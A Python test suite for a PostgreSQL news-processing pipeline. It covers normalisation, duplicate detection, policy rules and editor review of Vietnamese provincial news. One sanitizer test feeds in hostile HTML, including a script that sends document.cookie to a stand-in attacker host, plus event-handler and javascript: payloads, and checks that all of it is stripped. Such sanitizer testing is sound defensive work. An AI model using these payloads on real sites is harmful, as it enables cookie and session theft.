"""Processing stage on a real PostgreSQL: normalise → dedup → policy → load, review, quality.

Items are staged directly into staging.item with Vietnamese text (tests/process_helpers.py).
"""

from __future__ import annotations

import hashlib
import random
import time
import unicodedata
from datetime import UTC, datetime, timedelta

import pytest
from pgutil import query as rows
from process_helpers import (
    BASES,
    MAY,
    PROCESS_TABLES,
    REG,
    SEED_PARAS,
    SEED_SAPO,
    SEED_TITLE,
    TZ,
    connect,
    decision,
    distinct_story,
    edge,
    grey_pair,
    local,
    republished_paragraphs,
    run,
    stage,
    stage_seed,
    story_of,
)

from portal_etl.pipeline.process import STAGE_NAMES, check_quality, review, run_stage
from portal_etl.pipeline.process.policy import decide

# --- normalisation --------------------------------------------------------------------------------


def test_normalisation_nfc_eth_dateline_and_tone_variants(process_db: str) -> None:
    nfd_html = unicodedata.normalize("NFD", "<p>Đồng Nai hòa nhịp phát triển\u200b kinh tế.</p>")
    a = stage(
        process_db,
        "dongnai_gov",
        "/vi/news/kinh-te/hoa-nhip-101.html",
        title="\u00d0ồng Nai h\u00f2a nhịp \u2013 phát triển\u200b & hội nhập",
        sapo='(\u00d0N) – Sáng 3-5, "hội nghị" được tổ chức.',
        body=SEED_PARAS,
        body_html=nfd_html,
        published=local(2024, 5, 3, 9),
        section="kinh-te",
        native_id="101",
    )
    # same channel, same local day, the title in the new tone style and another dash: same story
    b = stage(
        process_db,
        "dongnai_gov",
        "/vi/news/kinh-te/hoa-nhip-102.html",
        title="Đồng Nai hoà nhịp - phát triển & hội nhập",
        body=SEED_PARAS[:4],
        published=local(2024, 5, 3, 23, 50),
        section="kinh-te",
        native_id="102",
    )
    counts = run(process_db, *MAY)
    assert counts["normalized"] == 2 and counts["new"] == 1
    ((title, sapo, dateline, body_html, words),) = rows(
        process_db,
        "SELECT title_clean, sapo_clean, dateline, body_html_sanitized, word_count "
        "FROM process.normalized_item WHERE item_id = %s",
        a,
    )
    assert title == "Đồng Nai hòa nhịp – phát triển & hội nhập"
    assert unicodedata.is_normalized("NFC", title) and "\u00d0" not in title and "\u200b" not in title
    assert (dateline, sapo) == ("ĐN", 'Sáng 3-5, "hội nghị" được tổ chức.')
    assert unicodedata.is_normalized("NFC", body_html) and "\u200b" not in body_html
    # words hold a letter or digit (the contract's count): the seed's lone "-" is not one
    assert words == sum(len(p.split()) for p in SEED_PARAS) - 1
    assert edge(process_db, a, b)[0] == "same_title_day"
    assert story_of(process_db, a) == story_of(process_db, b)


# --- dedup layers ---------------------------------------------------------------------------------


def test_republished_story_one_article_primary_earliest(process_db: str) -> None:
    bdn = stage_seed(process_db, native_id="3f1391d")
    gov = stage(
        process_db,
        "dongnai_gov",
        "/vi/news/thoi-su-chinh-tri/tang-cuong-lien-ket-5021.html",
        title=SEED_TITLE.replace("Tăng cường", "Tăng cường việc") + ".",
        sapo=SEED_SAPO.replace("(ĐN)-", "(ĐCSVN) -"),
        body=republished_paragraphs(),
        published=local(2024, 5, 29, 8, 0),
        section="thoi-su-chinh-tri",
        native_id="5021",
    )
    run(process_db, *MAY)
    reason, sim = edge(process_db, bdn, gov)
    assert reason == "near_duplicate" and sim >= 0.7
    arts = rows(
        process_db, "SELECT story_key, primary_source_id, primary_item_id, story_month, title FROM integration.article"
    )
    assert len(arts) == 1
    key, src, primary, month, title = arts[0]
    assert (src, primary, month, title) == ("baodongnai", bdn, "2024-05", SEED_TITLE)
    srcs = rows(
        process_db,
        "SELECT item_id, is_primary, outcome FROM integration.article_source WHERE story_key = %s ORDER BY item_id",
        key,
    )
    assert srcs == sorted([(bdn, True, "approved"), (gov, False, "approved")])
    assert key == min(
        hashlib.sha1(f"{s}|{u}".encode()).hexdigest()[:16]
        for s, u in rows(process_db, "SELECT source_id, canonical_url FROM staging.item")
    )


def test_primary_tie_goes_to_registry_channel_order(process_db: str) -> None:
    when = local(2024, 5, 10, 15, 30)
    title, sapo, body = distinct_story(when)
    bdn = stage(
        process_db,
        "baodongnai",
        "/chinh-tri/202405/story-a1b2c3d",
        title=title,
        sapo=sapo,
        body=body,
        published=when,
        section="chinh-tri",
    )
    gov = stage(
        process_db,
        "dongnai_gov",
        "/vi/news/thoi-su-chinh-tri/story-7001.html",
        title=title,
        sapo=sapo,
        body=body,
        published=when,
        section="thoi-su-chinh-tri",
    )
    party = stage(
        process_db,
        "dongnai_party",
        "/news/tin-hoat-dong/story-88.html",
        title=title,
        sapo=sapo,
        body=body[:-1] or body,
        published=when + timedelta(minutes=1),
        section="tin-hoat-dong",
    )
    run(process_db, *MAY)
    assert rows(process_db, "SELECT primary_item_id FROM integration.article") == [(gov,)]  # gov before baodongnai
    assert {story_of(process_db, i) for i in (bdn, gov, party)} == {story_of(process_db, gov)}


def test_same_url_and_same_native_id_merge_with_reason(process_db: str) -> None:
    title, sapo, body = distinct_story(local(2024, 5, 5))
    canonical = BASES["dongnai_gov"] + "/vi/news/kinh-te/khu-cong-nghiep-4411.html"
    a = stage(
        process_db,
        "dongnai_gov",
        "/vi/news/kinh-te/khu-cong-nghiep-4411.html",
        title=title,
        sapo=sapo,
        body=body,
        published=local(2024, 5, 5, 9),
        section="kinh-te",
        native_id="4411",
    )
    b = stage(
        process_db,
        "dongnai_gov",
        "/vi/news/kinh-te/khu-cong-nghiep-4411.html?utm_source=zalo&zarsrc=30",
        title=title + " (cập nhật)",
        sapo=sapo,
        body=body[:1],
        published=local(2024, 5, 6, 9),
        section="kinh-te",
        canonical=canonical + "?utm_source=zalo",
        native_id=None,
    )
    # legacy SharePoint URL of the same article: another URL, the same native id
    c = stage(
        process_db,
        "dongnai_gov",
        "/Pages/newsdetail.aspx?NewsId=4411&CatId=2",
        title="Bản cũ: " + title,
        sapo=sapo,
        body=body[:1],
        published=local(2024, 5, 7, 9),
        section="kinh-te",
        native_id="4411",
    )
    run(process_db, *MAY)
    assert edge(process_db, a, b)[0] == "same_url"
    assert edge(process_db, a, c)[0] == "same_native_id"
    assert len({story_of(process_db, i) for i in (a, b, c)}) == 1
    assert rows(process_db, "SELECT count(*) FROM integration.article") == [(1,)]
    assert rows(process_db, "SELECT count(*) FROM integration.article_source") == [(3,)]


def test_same_title_only_merges_on_the_same_local_day(process_db: str) -> None:
    title = "Hội nghị sơ kết công tác xây dựng Đảng 6 tháng đầu năm"
    _, _, body1 = distinct_story(local(2024, 5, 14))
    _, _, body2 = distinct_story(local(2024, 5, 14))
    _, _, body3 = distinct_story(local(2024, 5, 15))
    a = stage(
        process_db,
        "baodongnai",
        "/chinh-tri/202405/hoi-nghi-1a2b3c4",
        title=title,
        body=body1,
        published=local(2024, 5, 14, 7),
        section="chinh-tri",
    )
    b = stage(
        process_db,
        "baodongnai",
        "/chinh-tri/202405/hoi-nghi-so-ket-1a2b3c5",
        title=title.upper() + "!",
        body=body2,
        published=local(2024, 5, 14, 23, 59),
        section="chinh-tri",
    )
    c = stage(
        process_db,
        "baodongnai",
        "/chinh-tri/202405/hoi-nghi-1a2b3c6",
        title=title,
        body=body3,
        published=local(2024, 5, 15, 0, 1),
        section="chinh-tri",
    )
    run(process_db, *MAY)
    assert edge(process_db, a, b)[0] == "same_title_day"
    assert edge(process_db, a, c) is None and edge(process_db, b, c) is None
    assert story_of(process_db, a) == story_of(process_db, b) != story_of(process_db, c)


def test_near_duplicates_across_a_band_week_boundary_within_the_window(process_db: str) -> None:
    """The band look-up reads the item's publish week and the weeks either side (sql/017): a
    republication 6 days 22 hours later, in the next week, is still a candidate; 8 days is not."""
    week = timedelta(days=7).total_seconds()
    boundary = datetime.fromtimestamp((local(2024, 5, 15).timestamp() // week + 1) * week, UTC)
    first = boundary - timedelta(hours=1)
    bdn = stage(
        process_db,
        "baodongnai",
        "/chinh-tri/202405/tang-cuong-lien-ket-3f1391d",
        title=SEED_TITLE,
        sapo=SEED_SAPO,
        body=SEED_PARAS,
        published=first,
        section="chinh-tri",
        native_id="3f1391d",
    )
    gov = stage(
        process_db,
        "dongnai_gov",
        "/vi/news/thoi-su-chinh-tri/lien-ket-vung-5021.html",
        title="Liên kết vùng",
        body=republished_paragraphs(),
        published=first + timedelta(days=6, hours=22),
        section="thoi-su-chinh-tri",
        native_id="5021",
    )
    late = stage(
        process_db,
        "dongnai_party",
        "/tin-tuc/lien-ket-vung-88.html",
        title="Liên kết vùng Đông Nam Bộ",
        body=republished_paragraphs(),
        published=first + timedelta(days=8),
        section="tin-tuc",
        native_id="88",
    )
    run(process_db, local(2024, 5, 1), local(2024, 7, 1))
    weeks = dict(rows(process_db, "SELECT DISTINCT item_id, band_week FROM process.lsh_band"))
    assert weeks[gov] == weeks[bdn] + 1
    assert edge(process_db, bdn, gov)[0] == "near_duplicate"
    assert edge(process_db, bdn, late) is None  # outside the ±7-day window
    assert edge(process_db, gov, late)[0] == "near_duplicate"  # 1 day 2 hours apart


def test_same_long_title_on_another_channel_merges_a_stub_with_its_article(process_db: str) -> None:
    stub = stage(
        process_db,
        "dongnai_gov",
        "/vi/news/thoi-su-chinh-tri/lien-ket-6002.html",
        title=SEED_TITLE,
        sapo=SEED_SAPO,
        body=SEED_PARAS[:1],
        published=local(2024, 5, 28, 21),
        section="thoi-su-chinh-tri",
    )
    full = stage(
        process_db,
        "baodongnai",
        "/chinh-tri/202405/tang-cuong-lien-ket-3f1391e",
        title=SEED_TITLE,
        sapo=SEED_SAPO,
        body=SEED_PARAS,
        published=local(2024, 5, 29, 8),
        section="chinh-tri",
    )
    far = stage(
        process_db,
        "dongnai_party",
        "/news/xay-dung-dang/lien-ket-77.html",
        title=SEED_TITLE,
        sapo=SEED_SAPO,
        body=SEED_PARAS[:1],
        published=local(2024, 6, 10, 8),
        section="xay-dung-dang",
    )
    run(process_db, datetime(2024, 5, 1, tzinfo=TZ), datetime(2024, 7, 1, tzinfo=TZ))
    assert edge(process_db, stub, full)[0] == "same_title_cross_channel"
    # 12 days later: not the same
    assert story_of(process_db, stub) == story_of(process_db, full) != story_of(process_db, far)


PROVINCE_TITLE = SEED_TITLE.replace("về Đồng Nai", "về tỉnh Đồng Nai")


def short_body(when: datetime, words: int = 45) -> list[str]:
    """A stub's own few sentences: words of another story, so body similarity cannot join it."""
    return [" ".join(" ".join(distinct_story(when)[2]).split()[:words])]


def test_same_lead_on_another_channel_merges_a_stub_whose_headline_was_reworded(process_db: str) -> None:
    full = stage_seed(process_db)
    # the portal's stub: "tỉnh" added to the headline, the lead with its own dateline and tone
    # placement, a few sentences of its own
    lead = SEED_SAPO.replace("(ĐN)-", "(ĐCSVN) -").replace("Tỉnh ủy", "Tỉnh uỷ")
    stub = stage(
        process_db,
        "dongnai_gov",
        "/vi/news/thoi-su-chinh-tri/lien-ket-6003.html",
        title=PROVINCE_TITLE,
        sapo=lead,
        body=short_body(local(2024, 5, 28)),
        published=local(2024, 5, 29, 7),
        section="thoi-su-chinh-tri",
    )
    # each lacks one condition: a headline word changed; three days later
    reworded = stage(
        process_db,
        "dongnai_party",
        "/news/xay-dung-dang/lien-ket-78.html",
        title=SEED_TITLE.replace("Tăng cường", "Đẩy mạnh"),
        sapo=lead,
        body=short_body(local(2024, 5, 27)),
        published=local(2024, 5, 29, 9),
        section="xay-dung-dang",
    )
    late = stage(
        process_db,
        "dongnai_party",
        "/news/xay-dung-dang/lien-ket-79.html",
        title=PROVINCE_TITLE,
        sapo=lead,
        body=short_body(local(2024, 5, 26)),
        published=local(2024, 5, 31, 21),
        section="xay-dung-dang",
    )
    run(process_db, *MAY)
    reason, sim = edge(process_db, stub, full)
    assert reason == "same_lead_cross_channel" and sim < 0.5  # bodies alone would never join them
    assert story_of(process_db, stub) == story_of(process_db, full)
    for other in (reworded, late):
        assert edge(process_db, other, full) is None and story_of(process_db, other) != story_of(process_db, full)
        assert (edge(process_db, other, stub) or ("",))[0] != "same_lead_cross_channel"


def test_same_lead_leaves_two_full_articles_and_one_channel_to_other_layers(process_db: str) -> None:
    full = stage_seed(process_db)
    # another article about the same meeting opening with the press release's lead: long, so the
    # bodies decide (and they differ)
    other_article = stage(
        process_db,
        "dongnai_party",
        "/news/xay-dung-dang/lien-ket-80.html",
        title=PROVINCE_TITLE,
        sapo=SEED_SAPO,
        body=distinct_story(local(2024, 5, 28), lo=300, hi=400)[2],
        published=local(2024, 5, 29, 9),
        section="xay-dung-dang",
    )
    # a stub of the same lead on the full article's own channel
    own_stub = stage(
        process_db,
        "baodongnai",
        "/chinh-tri/202405/lien-ket-3f1391f",
        title="Đồng Nai: " + SEED_TITLE,
        sapo=SEED_SAPO,
        body=short_body(local(2024, 5, 28)),
        published=local(2024, 5, 28, 18),
        section="chinh-tri",
    )
    run(process_db, *MAY)
    assert edge(process_db, full, other_article) is None
    assert edge(process_db, full, own_stub) is None
    # the stub and the other article are on two channels: the lead joins them, not the full article
    assert edge(process_db, own_stub, other_article)[0] == "same_lead_cross_channel"
    assert story_of(process_db, own_stub) == story_of(process_db, other_article) != story_of(process_db, full)


def test_grey_zone_pair_needs_review_and_does_not_merge(process_db: str) -> None:
    early, late = grey_pair(process_db)
    run(process_db, *MAY)
    reason, sim = edge(process_db, early, late)
    assert reason == "review_grey_zone" and 0.5 <= sim < 0.7
    assert story_of(process_db, early) != story_of(process_db, late)
    assert decision(process_db, early) == ("approved", None, "policy")
    assert decision(process_db, late) == ("needs_review", "possible_duplicate", "policy")
    queue = review.list_queue(dsn=process_db)
    assert [(q["item_id"], q["reason"]) for q in queue] == [(late, "possible_duplicate")]
    shown = review.show(late, dsn=process_db)
    assert [(c["item_id"], c["reason"]) for c in shown["candidates"]] == [(early, "review_grey_zone")]
    assert shown["candidates"][0]["similarity"] == pytest.approx(sim, abs=1e-4)
    assert rows(process_db, "SELECT primary_item_id FROM integration.article") == [(early,)]


# --- policy ---------------------------------------------------------------------------------------


def test_policy_reasons(process_db: str) -> None:
    long_body = distinct_story(local(2023, 3, 28))[2]
    short = [
        "Sáng 5-5, UBND tỉnh tổ chức hội nghị triển khai nhiệm vụ quý II năm 2024 với sự tham dự của "
        "lãnh đạo các sở, ngành."
    ]
    video_html = '<p>Clip.</p><iframe src="https://www.youtube.com/embed/abc123"></iframe>'
    cases = {
        "not_integrated": stage(
            process_db,
            "dongnai_gov",
            "/vi/news/thong-bao/tb-1.html",
            title="Thông báo lịch tiếp dân",
            body=long_body,
            published=local(2023, 3, 1),
            section="thong-bao",
        ),
        "before_window": stage(
            process_db,
            "dongnai_gov",
            "/vi/news/kinh-te/truoc-2.html",
            title="Tin trước ngày tích hợp",
            body=long_body,
            published=local(2023, 3, 28, 23, 59),
            section="kinh-te",
        ),
        "window_start": stage(
            process_db,
            "dongnai_gov",
            "/vi/news/kinh-te/dung-ngay-3.html",
            title="Tin đúng ngày tích hợp",
            body=distinct_story(local(2023, 3, 29))[2],
            published=local(2023, 3, 29, 0, 0),
            section="kinh-te",
        ),
        "too_short": stage(
            process_db,
            "baodongnai",
            "/xa-hoi/202303/tin-ngan-1111111",
            title="Tin ngắn về hội nghị",
            body=short,
            published=local(2023, 3, 30),
            section="xa-hoi",
        ),
        "video": stage(
            process_db,
            "dongnai_gov",
            "/vi/news/video-clip/clip-4.html",
            title="Video: Đồng Nai hôm nay",
            body=["Clip."],
            body_html=video_html,
            published=local(2023, 3, 30, 8),
            section="video-clip",
            item_type="video",
        ),
        "unknown_section": stage(
            process_db,
            "baodongnai",
            "/tin-moi/202303/tin-moi-2222222",
            title="Chuyên mục lạ",
            body=distinct_story(local(2023, 3, 30))[2],
            published=local(2023, 3, 30, 9),
            section="tin-moi",
        ),
        "unknown_short": stage(
            process_db,
            "baodongnai",
            "/tin-moi/202303/tin-moi-3333333",
            title="Chuyên mục lạ, ngắn",
            body=short,
            published=local(2023, 3, 30, 10),
            section="tin-moi",
        ),
        "language": stage(
            process_db,
            "baodongnai",
            "/chinh-tri/202303/english-4444444",
            title="Dong Nai news in English",
            body=distinct_story(local(2023, 3, 30))[2],
            published=local(2023, 3, 30, 11),
            section="chinh-tri",
            language="en",
        ),
    }
    run(process_db, local(2023, 3, 1), local(2023, 4, 1))
    got = {name: decision(process_db, item)[:2] for name, item in cases.items()}
    assert got == {
        "not_integrated": ("rejected", "section_not_integrated"),
        "before_window": ("rejected", "before_window"),
        "window_start": ("approved", None),
        "too_short": ("rejected", "too_short"),
        "video": ("approved", None),
        "unknown_section": ("needs_review", "unknown_section"),
        "unknown_short": ("rejected", "too_short"),
        "language": ("needs_review", "language"),
    }
    integrated = {r[0] for r in rows(process_db, "SELECT primary_item_id FROM integration.article")}
    assert integrated == {cases["window_start"], cases["video"]}
    # a staged item always has a date (001 CHECK); the rule itself:
    item = {
        "source_id": "baodongnai",
        "section": "chinh-tri",
        "published_at": None,
        "word_count": 500,
        "playable_video": False,
        "language": "vi",
    }
    verdict = decide(item, REG.get("baodongnai"), [])
    assert (verdict.outcome, verdict.reason) == ("needs_review", "no_date")
    verdict = decide(item, None, [])
    assert (verdict.outcome, verdict.reason) == ("needs_review", "unknown_section")


def test_hostile_html_never_reaches_the_store(process_db: str) -> None:
    hostile = (
        '<p onclick="steal()">Bài viết <a href="javascript:alert(1)">xem thêm</a></p>'
        '<script>document.location="https://evil.example/?c="+document.cookie</script>'
        '<img src="x.jpg" onerror="alert(1)"><iframe src="https://evil.example/frame"></iframe>'
        '<a href="/vi/news/kinh-te/bai-khac-1.html">bài khác</a><svg onload="alert(2)"></svg>'
        '<p style="x" data-x="1">&lt;script&gt;alert(3)&lt;/script&gt;</p>'
    )
    item = stage(
        process_db,
        "dongnai_gov",
        "/vi/news/kinh-te/bai-doc-hai-9.html",
        title="Bài có mã độc",
        body=SEED_PARAS,
        body_html=hostile + "".join(f"<p>{p}</p>" for p in SEED_PARAS),
        published=local(2024, 5, 2, 10),
        section="kinh-te",
    )
    run(process_db, *MAY)
    ((body_html,),) = rows(process_db, "SELECT body_html FROM integration.article WHERE primary_item_id = %s", item)
    lowered = body_html.lower()
    for bad in ("<script", "onerror", "onclick", "onload", "javascript:", "evil.example", "<svg", "style="):
        assert bad not in lowered, bad
    assert 'href="https://dongnai.gov.vn/vi/news/kinh-te/bai-khac-1.html"' in body_html
    assert "&lt;script&gt;alert(3)&lt;/script&gt;" in body_html
    assert check_quality(process_db) == []


# --- idempotence and order independence -----------------------------------------------------------


def integration_dump(dsn: str) -> dict[str, list[tuple]]:
    return {
        "article": rows(dsn, "SELECT xmin::text, a.* FROM integration.article a ORDER BY story_key"),
        "article_source": rows(dsn, "SELECT xmin::text, s.* FROM integration.article_source s ORDER BY 2, 3"),
        "article_history": rows(dsn, "SELECT xmin::text, h.* FROM integration.article_history h ORDER BY 2"),
    }


def two_month_dataset(dsn: str) -> dict[str, int]:
    ids: dict[str, int] = {}
    # S1: a story spanning the month boundary (primary on 31 March, republished on 1 April)
    ids["s1_bdn"] = stage(
        dsn,
        "baodongnai",
        "/chinh-tri/202403/lien-ket-thong-tin-a000001",
        title=SEED_TITLE,
        sapo=SEED_SAPO,
        body=SEED_PARAS,
        published=local(2024, 3, 31, 23, 30),
        section="chinh-tri",
    )
    ids["s1_gov"] = stage(
        dsn,
        "dongnai_gov",
        "/vi/news/thoi-su-chinh-tri/lien-ket-thong-tin-9001.html",
        title=SEED_TITLE + ".",
        sapo=SEED_SAPO.replace("(ĐN)-", "(ĐCSVN) -"),
        body=republished_paragraphs(),
        published=local(2024, 4, 1, 8),
        section="thoi-su-chinh-tri",
    )
    # S2: three channels within the ±7-day window; the party copy is in a non-integrated section
    t, s, b = distinct_story(local(2024, 3, 20), lo=200, hi=300)
    ids["s2_party"] = stage(
        dsn,
        "dongnai_party",
        "/news/van-ban/s2-11.html",
        title=t,
        sapo=s,
        body=b,
        published=local(2024, 3, 27, 7),
        section="van-ban",
    )
    ids["s2_gov"] = stage(
        dsn,
        "dongnai_gov",
        "/vi/news/thoi-su-chinh-tri/s2-9002.html",
        title=t,
        sapo=s,
        body=b,
        published=local(2024, 3, 28, 9),
        section="thoi-su-chinh-tri",
    )
    ids["s2_bdn"] = stage(
        dsn,
        "baodongnai",
        "/chinh-tri/202404/s2-a000002",
        title=t,
        sapo=s,
        body=b[1:] + b[:1],
        published=local(2024, 4, 2, 9),
        section="chinh-tri",
    )
    # S3: grey zone with S1's March original (and same channel as S1's copy: no LSH pair there)
    extra = distinct_story(local(2024, 3, 30), lo=300, hi=400)[2]
    ids["s3_gov"] = stage(
        dsn,
        "dongnai_gov",
        "/vi/news/thoi-su-chinh-tri/s3-9003.html",
        title=SEED_TITLE + " (kỳ 2)",
        sapo=SEED_SAPO,
        body=SEED_PARAS[:6] + extra[:2],
        published=local(2024, 4, 3, 9),
        section="thoi-su-chinh-tri",
    )
    # S4: same title, same day, same channel, in April
    t4, s4, b4 = distinct_story(local(2024, 4, 12))
    ids["s4_a"] = stage(
        dsn,
        "baodongnai",
        "/kinh-te/202404/s4-a000004",
        title=t4,
        sapo=s4,
        body=b4,
        published=local(2024, 4, 12, 8),
        section="kinh-te",
    )
    ids["s4_b"] = stage(
        dsn,
        "baodongnai",
        "/kinh-te/202404/s4-a000005",
        title=t4.lower(),
        sapo=s4,
        body=b4[:2],
        published=local(2024, 4, 12, 17),
        section="kinh-te",
    )
    # singles in both months on every channel
    for month in (3, 4):
        for n, (source_id, section, path) in enumerate(
            [
                ("dongnai_party", "xay-dung-dang", "/news/xay-dung-dang/single-{m}-{n}.html"),
                ("dongnai_gov", "van-hoa-xa-hoi", "/vi/news/van-hoa-xa-hoi/single-{m}-{n}.html"),
                ("baodongnai", "van-hoa", "/van-hoa/20240{m}/single-{m}-{n}"),
                ("baodongnai", "the-thao", "/the-thao/20240{m}/single-{m}-{n}"),
            ]
        ):
            when = local(2024, month, 3 + 5 * n, 10)
            t, s, b = distinct_story(when, topic="culture")
            ids[f"single_{month}_{n}"] = stage(
                dsn, source_id, path.format(m=month, n=n), title=t, sapo=s, body=b, published=when, section=section
            )
    return ids


MARCH = (local(2024, 3, 1), local(2024, 4, 1))
APRIL = (local(2024, 4, 1), local(2024, 5, 1))


def test_rerun_leaves_the_store_byte_identical(process_db: str) -> None:
    two_month_dataset(process_db)
    run(process_db, *MARCH, run_id="m1")
    first = run(process_db, *APRIL, run_id="a1")
    before = integration_dump(process_db)
    again = run(process_db, *APRIL, run_id="a2")
    run(process_db, *MARCH, run_id="m2")
    assert integration_dump(process_db) == before
    assert again["normalized"] == 0 and again["new"] == again["updated"] == again["removed"] == 0
    assert again["unchanged"] == first["new"] + first["unchanged"] + first["updated"] > 0
    assert check_quality(process_db) == []


def order_dump(dsn: str) -> dict[str, list[tuple]]:
    cols = (
        "story_key, title, sapo, dateline, body_html, body_text, published_at, story_month, item_type, section, "
        "author, language, primary_source_id, primary_item_id, primary_url, content_hash"
    )
    return {
        "article": rows(dsn, f"SELECT {cols} FROM integration.article ORDER BY story_key"),
        "article_source": rows(dsn, "SELECT * FROM integration.article_source ORDER BY source_id, url"),
        "item_story": rows(dsn, "SELECT item_id, story_key FROM process.item_story ORDER BY item_id"),
        "dup_edge": rows(dsn, "SELECT item_a, item_b, reason, similarity FROM process.dup_edge ORDER BY 1, 2"),
        "decision": rows(dsn, "SELECT item_id, outcome, reason, decided_by, note FROM process.decision ORDER BY 1"),
    }


def test_processing_order_does_not_change_the_result(process_db: str) -> None:
    ids = two_month_dataset(process_db)
    run(process_db, *MARCH)
    run(process_db, *APRIL)
    forward = order_dump(process_db)
    # start again from the same staging rows, months in the other order
    conn = connect(process_db)
    with conn, conn.cursor() as cur:
        cur.execute(f"TRUNCATE {', '.join(PROCESS_TABLES)} RESTART IDENTITY CASCADE")
    conn.close()
    counts = run(process_db, *APRIL)
    assert counts["new"] > 0
    # alone, April makes the republication of S1 its own story, primary on gov
    assert rows(
        process_db,
        "SELECT primary_item_id, story_month FROM integration.article a JOIN process.item_story s "
        "USING (story_key) WHERE s.item_id = %s",
        ids["s1_gov"],
    ) == [(ids["s1_gov"], "2024-04")]
    backward_counts = run(process_db, *MARCH)
    # March joins it to its original: the article is re-keyed (removed + new) or rewritten in place
    assert backward_counts["removed"] + backward_counts["updated"] >= 2
    assert order_dump(process_db) == forward
    s1 = story_of(process_db, ids["s1_bdn"])
    assert story_of(process_db, ids["s1_gov"]) == s1
    assert rows(
        process_db, "SELECT primary_item_id, story_month FROM integration.article WHERE story_key = %s", s1
    ) == [(ids["s1_bdn"], "2024-03")]
    s2 = story_of(process_db, ids["s2_gov"])
    assert {story_of(process_db, ids["s2_party"]), story_of(process_db, ids["s2_bdn"])} == {s2}
    assert rows(process_db, "SELECT primary_item_id FROM integration.article WHERE story_key = %s", s2) == [
        (ids["s2_gov"],)
    ]
    assert decision(process_db, ids["s2_party"])[:2] == ("rejected", "section_not_integrated")
    assert rows(process_db, "SELECT count(*) FROM integration.article_source WHERE story_key = %s", s2) == [(3,)]
    assert decision(process_db, ids["s3_gov"])[:2] == ("needs_review", "possible_duplicate")
    assert edge(process_db, ids["s1_bdn"], ids["s3_gov"])[0] == "review_grey_zone"
    assert story_of(process_db, ids["s4_a"]) == story_of(process_db, ids["s4_b"])
    assert check_quality(process_db) == []


def test_stages_called_separately_match_process_interval(process_db: str) -> None:
    two_month_dataset(process_db)
    run(process_db, *MARCH)
    run(process_db, *APRIL)
    together = order_dump(process_db)
    conn = connect(process_db)
    with conn, conn.cursor() as cur:
        cur.execute(f"TRUNCATE {', '.join(PROCESS_TABLES)} RESTART IDENTITY CASCADE")
    conn.close()
    for start, end in (MARCH, APRIL):
        kw = {"dag_id": "process_test", "run_id": "sep", "dsn": process_db, "registry": REG}
        for name in STAGE_NAMES:
            run_stage(name, start, end, **kw)
    assert order_dump(process_db) == together
    assert rows(process_db, "SELECT count(*) FROM process.pending") == [(0,)]


def test_changed_and_withdrawn_items_update_the_store(process_db: str) -> None:
    when = local(2024, 5, 8, 9)
    t, s, b = distinct_story(when)
    item = stage(
        process_db,
        "dongnai_gov",
        "/vi/news/kinh-te/thay-doi-1.html",
        title=t,
        sapo=s,
        body=b,
        published=when,
        section="kinh-te",
    )
    other = stage(
        process_db,
        "dongnai_gov",
        "/vi/news/kinh-te/khac-2.html",
        title=SEED_TITLE,
        body=SEED_PARAS,
        published=when,
        section="kinh-te",
    )
    run(process_db, *MAY)
    ((key, xmin_other),) = rows(
        process_db, "SELECT story_key, xmin::text FROM integration.article WHERE primary_item_id = %s", other
    )
    stage(
        process_db,
        "dongnai_gov",
        "/vi/news/kinh-te/thay-doi-1.html",
        title=t + " (cập nhật)",
        sapo=s,
        body=b,
        published=when,
        section="kinh-te",
    )
    # an interval that does not contain the item: changed content is still picked up
    counts = run(process_db, local(2024, 7, 1), local(2024, 8, 1), run_id="later")
    assert (counts["normalized"], counts["updated"], counts["new"]) == (1, 1, 0)
    assert rows(process_db, "SELECT title FROM integration.article WHERE primary_item_id = %s", item) == [
        (t + " (cập nhật)",)
    ]
    assert rows(process_db, "SELECT change, previous->>'title' FROM integration.article_history") == [("updated", t)]
    assert rows(process_db, "SELECT xmin::text FROM integration.article WHERE story_key = %s", key) == [(xmin_other,)]
    conn = connect(process_db)
    with conn, conn.cursor() as cur:
        cur.execute(
            "UPDATE staging.item SET status = 'parse_error', parse_error = 'layout_unknown', "
            "content_hash = 'x' WHERE item_id = %s",
            (item,),
        )
    conn.close()
    counts = run(process_db, *MAY, run_id="withdraw")
    assert counts["removed"] == 1 and counts["items_withdrawn"] == 1
    assert rows(process_db, "SELECT primary_item_id FROM integration.article") == [(other,)]
    assert rows(process_db, "SELECT change FROM integration.article_history ORDER BY history_id") == [
        ("updated",),
        ("removed",),
    ]
    assert check_quality(process_db) == []


# --- review ---------------------------------------------------------------------------------------


def test_review_approve_reject_reopen(process_db: str) -> None:
    early, late = grey_pair(process_db)
    run(process_db, *MAY)
    merged_key = min(story_of(process_db, early), story_of(process_db, late))

    result = review.approve(
        late, "Nguyễn Thu Hà", "cùng một tin, đăng lại", as_duplicate_of=early, dsn=process_db, registry=REG
    )
    assert result["outcome"] == "approved" and result["integrated"]
    assert edge(process_db, early, late)[0] == "editor_merge"
    assert story_of(process_db, late) == story_of(process_db, early) == merged_key
    assert rows(process_db, "SELECT item_id, is_primary FROM integration.article_source ORDER BY item_id") == sorted(
        [(early, True), (late, False)]
    )
    assert review.list_queue(dsn=process_db) == []

    # a later policy run keeps the editor's decision and merge
    run(process_db, *MAY, run_id="again")
    assert decision(process_db, late) == ("approved", None, "Nguyễn Thu Hà")
    assert edge(process_db, early, late)[0] == "editor_merge"

    review.reopen(late, "Nguyễn Thu Hà", "nhầm, cần xem lại", dsn=process_db, registry=REG)
    assert decision(process_db, late) == ("needs_review", "possible_duplicate", "policy")
    assert edge(process_db, early, late)[0] == "review_grey_zone"
    assert rows(process_db, "SELECT count(*) FROM integration.article_source") == [(1,)]

    review.reject(early, "Trần Minh", "trùng với bài đã tích hợp", dsn=process_db, registry=REG)
    assert decision(process_db, early) == ("rejected", "editor", "Trần Minh")
    assert rows(process_db, "SELECT count(*) FROM integration.article") == [(0,)]
    assert rows(
        process_db,
        "SELECT change, (previous->>'primary_item_id')::bigint FROM integration.article_history "
        "ORDER BY history_id DESC LIMIT 1",
    ) == [("removed", early)]
    # the later item is still flagged: its grey-zone partner is earlier, whatever its decision
    review.approve(late, "Trần Minh", "tin riêng, không trùng", dsn=process_db, registry=REG)
    assert rows(process_db, "SELECT primary_item_id FROM integration.article") == [(late,)]

    audit = rows(
        process_db, "SELECT item_id, action, reviewer, note, detail FROM process.review_audit ORDER BY audit_id"
    )
    assert [(a[0], a[1], a[2]) for a in audit] == [
        (late, "approve", "Nguyễn Thu Hà"),
        (late, "reopen", "Nguyễn Thu Hà"),
        (early, "reject", "Trần Minh"),
        (late, "approve", "Trần Minh"),
    ]
    assert audit[0][4] == {"as_duplicate_of": early} and audit[1][4] == {"unmerged": [early]}
